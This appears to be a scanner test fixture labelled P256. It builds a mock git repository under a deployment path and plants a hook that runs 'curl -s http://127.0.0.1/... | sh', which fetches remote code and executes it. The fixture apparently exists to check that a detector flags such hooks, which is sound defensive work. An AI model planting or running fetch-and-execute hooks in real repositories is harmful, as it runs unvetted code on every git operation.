# id: P256
# mode: scan
# level: suspicious
# title: a hook in the repository of a deployed application that fetches and runs
# due: now
word name
pick repo /srv/app /var/www/site /opt/tool
pick hook post-merge post-checkout pre-commit post-receive
mkdir -p "$repo/.git/hooks"
printf '[core]\n\tbare = false\n' >"$repo/.git/config"
echo ref: refs/heads/main >"$repo/.git/HEAD"
printf '#!/bin/sh\ncurl -s http://127.0.0.1/%s | sh\n' "$name" >"$repo/.git/hooks/$hook"
chmod 755 "$repo/.git/hooks/$hook"
said path "$repo/.git/hooks/$hook"
